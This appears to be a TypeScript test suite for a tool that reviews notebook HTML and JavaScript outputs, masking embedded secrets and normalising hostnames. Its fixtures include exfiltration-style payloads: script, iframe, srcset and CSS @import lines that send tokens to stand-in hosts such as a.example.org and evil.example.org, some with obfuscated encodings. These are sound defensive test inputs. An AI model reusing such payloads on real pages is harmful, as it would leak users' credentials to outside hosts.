import fc from 'fast-check';

import { generateSample } from '../credentials';
import { seeded } from '../credentials/seeded';
import { reviewOutput } from './fixtures/output';
import { readChange } from './review';

describe('an excerpt', () => {
  const token = (seed: number): string => {
    const { text, from, to } = generateSample(
      'github-pat-classic',
      seeded(seed)
    );
    return text.slice(from, to);
  };

  it.each<(secret: string) => object>([
    secret => ({ 'text/html': `<script>send("${secret}")</script>` }),
    secret => ({ 'text/html': `<b onclick="send('${secret}')">x</b>` }),
    secret => ({
      'text/html': `<script src="https://a.example.org/?t=${secret}"></script>`
    }),
    secret => ({
      'text/html': `<iframe src="https://${secret}.example.org/"></iframe>`
    }),
    secret => ({
      'text/html': `<iframe src="https://%67${secret.slice(1)}.example.org/"></iframe>`
    }),
    secret => ({
      'text/html': `<img srcset="https://${secret}@a.example.org/a.png 2x">`
    }),
    secret => ({
      'text/html': `<script>const password = "${secret.slice(4, 30)}";</script>`
    }),
    secret => ({ 'application/javascript': `send("${secret}")` }),
    secret => ({ [`application/${secret}`]: 'a' }),
    secret => ({ [`application/x-${secret}`]: 'a' }),
    secret => ({ [`application/vnd.own.${secret}+json`]: 'a' }),
    secret => ({
      'text/html': `<style>@import 'https://a.example.org/${secret}.css';</style>`
    }),
    secret => ({
      'application/javascript': `send('\\x67${secret.slice(1)}')`
    }),
    secret => ({
      'application/javascript': `send('\\u{67}\\150${secret.slice(2)}')`
    }),
    secret => ({
      'text/html': `<script>send('&#103;&#x68;${secret.slice(2)}')</script>`
    }),
    secret => ({
      'text/html': `<script>${' '.repeat(150)}"${secret}"</script>`
    }),
    secret => ({
      'text/html': `<script>${'a();\n'.repeat(797)}"${secret}"</script>`
    })
  ])('holds no secret: %s', toData => {
    for (let seed = 0; seed < 20; seed++) {
      const secret = token(seed);
      const { changes } = reviewOutput(toData(secret));
      expect(changes.length).toBeGreaterThan(0);
      const told = JSON.stringify(changes).toLowerCase();
      expect(told).not.toContain(secret.slice(6, 30).toLowerCase());
    }
  });

  it('shows an address with a password as it is, the password masked', () => {
    const { changes } = reviewOutput({
      'text/html':
        "<form action='https://user:hunter2secret@evil.example.org/'></form>"
    });
    expect(changes[0].excerpt).toBe(
      '<form action="https://user:••••••••@evil.example.org/">'
    );
  });

  it('is one short line', () => {
    const { changes } = reviewOutput({
      'text/html': `<script>a\n\n\tb ${'c'.repeat(999)}</script>`
    });
    expect(changes[0].excerpt).toMatch(/^a b c{100,160}…$/);
  });

  it('does not pass for all of what goes on far behind', () => {
    const { changes } = reviewOutput({
      'text/html': `<script>a()${' '.repeat(20_000)}steal()</script>`
    });
    expect(changes).toMatchObject([{ excerpt: 'a()…', rest: 16_010 }]);
  });

  it('names the host without the user and the port', () => {
    const { changes } = reviewOutput({
      'text/html':
        '<script src="HTTPS://u:p@CDN.Example.org:8443/a.js"></script>'
    });
    expect(changes[0].host).toBe('cdn.example.org');
  });
});

it.each([
  ['https://\u0430pple.com/', 'xn--pple-43d.com'],
  ['https://\uff45vil.example.org/', 'evil.example.org'],
  ['https://2130706433/', '127.0.0.1'],
  ['https://%65vil.example.org/', 'evil.example.org'],
  ['https://evil\u3002example\u3002org/', 'evil.example.org'],
  ['https://good.example@b\u00fccher.example:8080/', 'xn--bcher-kva.example'],
  ['https://no host/', 'no host']
])(
  'the host of %s is %s, and the excerpt shows how it is written',
  (address, host) => {
    const { changes } = reviewOutput({
      'text/html': `<iframe src="${address}"></iframe>`
    });
    expect(changes).toMatchObject([
      { host, excerpt: `<iframe src="${address}">` }
    ]);
  }
);

describe('a secret at any place of what acts', () => {
  const kinds = [
    'github-pat-classic',
    'openai-project-key',
    'jwt',
    'postgres-url',
    'aws-access-key-id',
    'private-key-pem-rsa'
  ];
  /** Characters as HTML may write them. */
  const encode = (text: string): string =>
    [...text].map(sign => `&#${sign.codePointAt(0)};`).join('');
  const carriers: readonly ((text: string) => object)[] = [
    text => ({ 'text/html': `<script>${text}</script>` }),
    text => ({ 'text/html': `<b onclick='${text}'>x</b>` }),
    text => ({ 'text/html': `<b onclick="${encode(text)}">x</b>` }),
    text => ({ 'text/html': `<iframe srcdoc="${encode(text)}"></iframe>` }),
    text => ({ 'application/javascript': text }),
    text => ({ 'application/x-own': text })
  ];

  it('is masked', () => {
    fc.assert(
      fc.property(
        fc.constantFrom(...kinds),
        fc.nat(1000),
        fc.constantFrom(...carriers),
        fc.nat(300),
        (kind, seed, carry, before) => {
          const { text, from, to } = generateSample(kind, seeded(seed));
          const told = JSON.stringify(
            reviewOutput(carry(`${'x '.repeat(before)}\n${text}`)).changes
          );
          // Its start is public, and so is the end of a key in several lines.
          const value = text.slice(from, to);
          const middle = Math.floor(value.length / 2);
          const part = value.slice(middle, middle + 10).split('\n')[0];
          expect(part === '' || !told.includes(part)).toBe(true);
        }
      ),
      { numRuns: 200 }
    );
  });
});

describe('a text that somebody reads on in', () => {
  const readAll = (html: string): string => {
    const notebook = {
      cells: [
        {
          cell_type: 'code',
          outputs: [
            { output_type: 'display_data', data: { 'text/html': html } }
          ]
        }
      ]
    };
    const parts: string[] = [];
    for (let from: number | null = 0; from !== null;) {
      const part = readChange(notebook, null, 1, from);
      parts.push(part.text);
      from = part.next;
    }
    return parts.join('');
  };
  const read = (script: string): string =>
    readAll(`<b onclick="a()"></b><script>${script}</script>`);

  it('is all of it', () => {
    const script = 'draw("\u{1f600}");'.repeat(9000);
    expect(read(script)).toBe(script);
  });

  it('holds no secret, wherever a part ends', () => {
    const { text, from, to } = generateSample('github-pat-classic', seeded(1));
    const secret = text.slice(from, to);
    for (const before of [49_955, 49_970, 49_990, 50_000, 99_980]) {
      const told = read(
        `${';'.repeat(before)}f("${secret}")${';'.repeat(999)}`
      );
      expect(told).not.toContain(secret.slice(8, 20));
      expect(told).not.toContain(secret.slice(-10));
      expect(told).toMatch(/;f\("[^;]{1,60}"\);/);
    }
  });
});
